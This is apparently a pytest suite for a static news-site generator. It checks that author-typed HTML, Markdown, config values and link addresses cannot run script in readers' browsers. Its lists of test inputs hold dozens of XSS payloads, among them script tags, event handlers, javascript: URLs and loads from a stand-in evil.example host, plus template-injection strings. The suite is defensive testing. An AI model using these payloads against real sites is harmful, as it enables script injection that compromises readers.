"""Nothing that authors type acts in a reader's browser."""

from __future__ import annotations

import json
from html import unescape
from xml.etree import ElementTree

import pytest

from tests.acting import Page
from tests.newsroom import Newsroom

STORY = "/2026/05/01/story/"
MODES = pytest.mark.parametrize("mode", ["sanitize", "escape"])
ALL_MODES = pytest.mark.parametrize("mode", ["sanitize", "escape", "trust"])

RAW = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    '<p onclick="alert(1)">x</p>',
    "<b OnMouseOver=alert(1)>x</b>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>1</script>">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>1</script>"></iframe>',
    "<svg onload=alert(1)><script>1</script></svg>",
    "<svg><a xlink:href='javascript:1'><text>x</text></a></svg>",
    '<math><mi xlink:href="javascript:1">x</mi></math>',
    "<object data=x></object><embed src=x>",
    '<form action="javascript:1"><input autofocus onfocus=alert(1)><button>b</button></form>',
    "<style>*{background:url(javascript:1)}</style>",
    '<p style="background:url(//evil.example/)">x</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<img src="https://evil.example/track.gif" alt="t">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<video poster=javascript:1 onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?php x ?><![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x onclick=alert(1)>y</x>",
    '<p id="a" onx="1" ID=b onload=alert(1)>x</p>',
    '<a href="https://example.org/" target="_blank" onclick="x" ping="//evil.example">x</a>',
    '<table background="javascript:1"><tr><td onclick=alert(1)>x</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<h2 id="x" onclick=alert(1)>x</h2>',
    '<a title="x"onclick="alert(1)"href="https://example.org/">x</a>',
    "<b title=\"a'>b\" lang='\"onclick=alert(1)'>x</b>",
    '<a href="https://e.org/" title="&gt;&lt;img src=x onerror=alert(1) y="></a>',
    '<a href="https://e.org/" title="><img src=x onerror=alert(1) y=">x</a>',
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://example.org/ "t\\" onmouseover=\\"alert(1)")',
    '![" onerror="alert(1)](https://example.org/x.png "\\" onload=\\"x")',
    '```js" onmouseover="alert(1)\nx\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    '## x {#a" onclick="alert(1)}',
    '{onclick="alert(1)"}\n## x',
    '{.x onclick="alert(1)" style="x:y"}\ntext',
    '[x]{onclick="alert(1)" style="a"}',
    "[x]{lang=\"en' onclick='1\" .a}",
    '| <img src=x onerror=alert(1)> |\n|---|\n| " onclick="x |',
    "Text[^1].\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:1)",
    'Text[^" onclick="x].\n\n[^" onclick="x]: note',
    "> [!note] <img src=x onerror=alert(1)>\n> x",
    "> Quote.\n>\n> — <script>alert(1)</script>",
    "Term <svg onload=alert(1)>\n: <script>alert(1)</script>",
]
BODIES = [*RAW, *MARKDOWN]


@pytest.fixture(scope="module", params=["sanitize", "escape"])
def printed(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Newsroom, str]:
    """One site with each body as an article of its own."""
    newsroom = Newsroom(tmp_path_factory.mktemp("safety"))
    newsroom.config(f'html = "{request.param}"', 'links = "warn"', "page_sizes.home = 100")
    for number, body in enumerate(BODIES):
        newsroom.article(f"story-{number}", f"Before.\n\n{body}\n\nAfter words.")
    newsroom.build()
    return newsroom, str(request.param)


@pytest.mark.parametrize("body", BODIES)
def test_nothing_in_a_body_acts(printed: tuple[Newsroom, str], body: str) -> None:
    newsroom, _ = printed

    page = Page(newsroom.page(f"/2026/05/01/story-{BODIES.index(body)}/"))

    assert page.acting == []
    assert page.comments == []
    assert page.closed[-1] == "html"
    assert "After words." in page.text


def test_nothing_in_lists_of_such_articles_acts(printed: tuple[Newsroom, str]) -> None:
    newsroom, _ = printed

    for url in newsroom.urls():
        assert (url, Page(newsroom.page(url)).acting) == (url, [])


def test_feeds_of_such_articles_are_well_formed(printed: tuple[Newsroom, str]) -> None:
    newsroom, _ = printed

    for name, data in newsroom.files().items():
        if name.endswith(".xml"):
            ElementTree.fromstring(data)
    for item in json.loads(newsroom.page("/feed.json"))["items"]:
        assert Page(item["content_html"]).acting == []


@pytest.mark.parametrize("body", RAW)
def test_escaped_html_is_printed_as_typed(newsroom: Newsroom, body: str) -> None:
    newsroom.config('html = "escape"')
    newsroom.article("story", body)

    newsroom.build()

    typed = " ".join(unescape(body.replace("&#1;", "\ufffd")).split())
    assert typed in Page(newsroom.page(STORY)).text


def test_trusted_html_stays_as_it_is(newsroom: Newsroom) -> None:
    body = "<iframe src='https://video.example/1' allow=\"x\" width=560></iframe>"
    newsroom.config('html = "trust"')
    newsroom.article("story", body)

    newsroom.build()

    assert body in newsroom.body(STORY)


@pytest.mark.parametrize(
    ("typed", "printed"),
    [
        ("<A HREF='/about/'>x</A>", '<a href="/about/">x</a>'),
        (
            "<a href=/about/ title='say \"x\"'>x</a>",
            '<a href="/about/" title="say &quot;x&quot;">x</a>',
        ),
        ("<div id='a' data-x=\"1\">y</div>", '<div id="a" data-x="1">y</div>'),
    ],
)
def test_trusted_html_is_read_as_browsers_read_it(
    newsroom: Newsroom, typed: str, printed: str
) -> None:
    newsroom.config('html = "trust"')
    newsroom.raw("---\ntitle: About\n---\nx", "content/pages/about.md")
    newsroom.article("story", typed)

    newsroom.build()

    assert printed in newsroom.body(STORY).replace("<A", "<a").replace("</A", "</a")


@ALL_MODES
@pytest.mark.parametrize("body", MARKDOWN[:14])
def test_markdown_makes_no_address_that_runs_even_where_html_is_trusted(
    newsroom: Newsroom, mode: str, body: str
) -> None:
    newsroom.config(f'html = "{mode}"', 'links = "warn"')
    newsroom.article("story", body)

    newsroom.build()

    assert not [
        each for each in Page(newsroom.page(STORY)).acting if "=" in each and "script:" in each
    ]


@MODES
def test_templates_in_content_are_printed_as_typed(newsroom: Newsroom, mode: str) -> None:
    newsroom.config(f'html = "{mode}"', 'tagline = "{{ 7*7 }}"')
    text = '{{ 7*7 }} {% include "x.html" %} {% raw %} {# c #} ${x} <%= y %>'
    newsroom.article("story", text.replace("<%", "\\<%"), title="'{{ 7*7 }} {% x %}'")

    newsroom.build()

    assert text in newsroom.text(STORY)
    assert "{{ 7*7 }} {% x %}" in newsroom.text(STORY)
    assert "49" not in newsroom.text(STORY)


def test_what_is_left_out_is_told_at_its_line(newsroom: Newsroom) -> None:
    newsroom.article("story", "One.\n\n<iframe src=x></iframe>\n\nTwo <script>x</script>.")

    assert [(each.line, each.text) for each in newsroom.warnings()] == [
        (8, "<iframe> is left out"),
        (10, "<script> is left out"),
    ]


TEXTS = [
    "</script><script>alert(1)</script>",
    "</title></textarea></style><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "a <!-- b",
    "a --> b ]]> c",
    "line\u2028paragraph\u2029end",
    "{{ 7*7 }} {% raw %}",
    "&lt;b&gt; &amp;amp; &#60;",
    "`a` *b* <b onclick=x>d</b> [c][d] javascript:alert(1)",
]


@pytest.fixture(scope="module", params=TEXTS)
def hostile(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Newsroom, str]:
    """A site with the same hostile text in every place where a text goes, and that text."""
    newsroom = Newsroom(tmp_path_factory.mktemp("texts"))
    quoted = json.dumps(request.param)
    newsroom.write(
        "dateline.toml",
        f"title = {quoted}\ntagline = {quoted}\ndescription = {quoted}\n"
        'base_url = "https://brief.example"\ntimezone = "Europe/Budapest"\n'
        f"[publisher]\nname = {quoted}\n"
        f'[menus]\nmain = [{{ title = {quoted}, url = "/" }}]\n'
        f'footer = [{{ title = {quoted}, url = "/" }}]\n'
        f'[[sections]]\nslug = "local"\ntitle = {quoted}\ndescription = {quoted}\n'
        f"[theme_settings]\ncopyright = {quoted}\n",
    )
    newsroom.write("data/tags.toml", f"[grid]\ntitle = {quoted}\ndescription = {quoted}\n")
    newsroom.write(
        "data/authors.toml",
        f"[ann]\nname = {quoted}\nbio = {quoted}\n"
        f'links = [{{ title = {quoted}, url = "https://example.org/" }}]\n',
    )
    newsroom.write("content/local/map.svg", "<svg width='4' height='3'></svg>")
    for slug in ("story", "later"):
        newsroom.article(
            slug,
            "Words.",
            title=quoted,
            section="local",
            standfirst=quoted,
            summary=quoted,
            dateline=quoted,
            tags="[grid]",
            authors="[ann]",
            image=f"{{src: map.svg, alt: {quoted}, caption: {quoted}, credit: {quoted}}}",
            sources=f'[{{title: {quoted}, url: "https://example.org/"}}]',
            corrections=f"[{{date: 2026-05-02, text: {quoted}}}]",
            extra=f"{{note: {quoted}}}",
        )
    newsroom.raw(f"---\ntitle: {quoted}\nstandfirst: {quoted}\n---\n", "content/pages/about.md")
    newsroom.build()
    return newsroom, request.param


def test_no_page_has_anything_that_acts(hostile: tuple[Newsroom, str]) -> None:
    newsroom, _ = hostile

    for url in newsroom.urls():
        page = Page(newsroom.page(url))
        assert (url, page.acting, page.comments) == (url, [], [])
        assert page.closed[-1] == "html"


def test_the_article_shows_hostile_texts_as_typed(hostile: tuple[Newsroom, str]) -> None:
    newsroom, text = hostile
    plain = " ".join(text.split())

    page = Page(newsroom.page(STORY))

    assert page.text.count(plain) >= 8
    assert page.values("img", "alt")[0] == plain
    assert [
        attrs["content"]
        for tag, attrs in page.elements
        if tag == "meta" and attrs.get("property") == "og:title"
    ] == [plain]


def test_structured_data_holds_hostile_texts_as_typed(hostile: tuple[Newsroom, str]) -> None:
    newsroom, text = hostile

    (data,) = Page(newsroom.page(STORY)).json_ld

    assert " ".join(text.split()) in "\n".join(_texts(json.loads(data)))
    assert "<" not in data


def test_feeds_and_sitemaps_stay_well_formed(hostile: tuple[Newsroom, str]) -> None:
    newsroom, text = hostile
    files = newsroom.files()

    xml = [name for name in files if name.endswith(".xml")]
    assert len(xml) > 5
    for name in xml:
        ElementTree.fromstring(files[name])
    title = ElementTree.fromstring(files["rss.xml"]).findtext("channel/item/title")
    assert title == " ".join(text.split())
    assert json.loads(files["feed.json"])["items"][0]["title"] == title


def _texts(data: object) -> list[str]:
    if isinstance(data, dict):
        return [text for value in data.values() for text in _texts(value)]
    if isinstance(data, list):
        return [text for value in data for text in _texts(value)]
    return [data] if isinstance(data, str) else []


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//evil.example/x",
        "https://",
        "\\x01javascript:alert(1)",
        "java\\tscript:alert(1)",
        'https://example.org/\\"onclick=x',
    ],
)
@pytest.mark.parametrize(
    "place", ["sources", "canonical", "menus", "policies", "publisher", "author", "image"]
)
def test_an_address_that_runs_is_an_error_wherever_it_may_stand(
    newsroom: Newsroom, place: str, address: str
) -> None:
    if place == "image" and address.startswith("https"):
        address = f"{address}x"
    matter = {
        "sources": f'[{{title: T, url: "{address}"}}]',
        "canonical": f'"{address}"',
        "image": f'{{src: "{address}"}}',
    }
    config = {
        "menus": f'menus.main = [{{ title = "M", url = "{address}" }}]',
        "policies": f'policies.ethics = "{address}"',
        "publisher": f'publisher.url = "{address}"',
    }
    toml_has_no_such_escape = address.startswith("\\x01")
    if place in config:
        if toml_has_no_such_escape:
            config[place] = config[place].replace("\\x01", "\\u0001")
        newsroom.config(config[place])
    newsroom.article("story", **({place: matter[place]} if place in matter else {"authors": "ann"}))
    if place == "author":
        url = address.replace("\\x01", "\\u0001")
        newsroom.write("data/authors.toml", f'[ann]\nlinks = [{{ title = "T", url = "{url}" }}]\n')

    problems = newsroom.errors()

    where = {"author": "data/authors.toml", **dict.fromkeys(config, "dateline.toml")}
    assert {each.path for each in problems} == {where.get(place, "content/story.md")}
    assert all(each.line for each in problems)


@pytest.mark.parametrize("address", ["javascript:alert", "data:text/html,x", "vbscript:x"])
def test_a_link_that_runs_in_a_bio_is_an_error(newsroom: Newsroom, address: str) -> None:
    newsroom.article("story", authors="ann")
    newsroom.write("data/authors.toml", f'[ann]\nname = "Ann"\nbio = "Her [site]({address})."\n')

    (problem,) = newsroom.errors()

    assert (problem.path, problem.line) == ("data/authors.toml", 3)
    assert problem.text == f"'{address}' is not an address that readers may follow"
